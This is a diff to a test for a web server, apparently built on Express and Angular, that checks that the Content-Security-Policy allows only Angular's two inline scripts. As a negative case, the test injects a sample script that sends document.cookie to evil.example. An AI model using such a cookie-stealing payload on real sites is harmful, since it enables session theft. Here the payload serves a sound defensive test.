@@ -78,8 +78,10 @@ describe('serveBuiltWebApp', () => {
     expect(english.text).toContain('<html lang="en">');
   });
 
-  it('allows exactly the page’s own inline scripts in its Content-Security-Policy, never the JSON of its data', async () => {
-    const replay = 'window.__jsaction_bootstrap=1;';
+  it('allows exactly Angular’s two inline scripts in its Content-Security-Policy: no other script, never the JSON of its data', async () => {
+    const contract = '(()=>{window.__jsaction_contract=1})();';
+    const replay = 'window.__jsaction_bootstrap(document.body,"ng",["click","keydown"],["focus"]);';
+    const injected = 'fetch("https://evil.example/"+document.cookie)';
     const server = express();
     server.use((_req, res, next) => {
       res.setHeader('Content-Security-Policy', "default-src 'self';script-src 'self';object-src 'none'");
@@ -93,13 +95,17 @@ describe('serveBuiltWebApp', () => {
       }),
       loadRenderPage: async () => async () => ({
         status: 200,
-        html: `<html><head><script type="text/javascript" id="contract">${replay}</script></head><body><script src="main-ABCD1234.js" type="module"></script><script id="ng-state" type="application/json">{"a":1}</script></body></html>`,
+        html:
+          `<html><head><script type="text/javascript" id="ng-event-dispatch-contract">${contract}</script>` +
+          `<script type="text/javascript">${replay}</script></head>` +
+          `<body><p><script>${injected}</script><script id="ng-event-dispatch-contract">${injected}</script></p>` +
+          `<script src="main-ABCD1234.js" type="module"></script><script id="ng-state" type="application/json">{"a":1}</script></body></html>`,
       }),
     });
     const page = await request(server).get(`/markt/${EVENT_ID}`).expect(200);
-    const hash = createHash('sha256').update(replay).digest('base64');
+    const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
     expect(page.headers['content-security-policy']).toBe(
-      `default-src 'self';script-src 'self' 'sha256-${hash}';object-src 'none'`,
+      `default-src 'self';script-src 'self' ${hash(contract)} ${hash(replay)};object-src 'none'`,
     );
   });
 
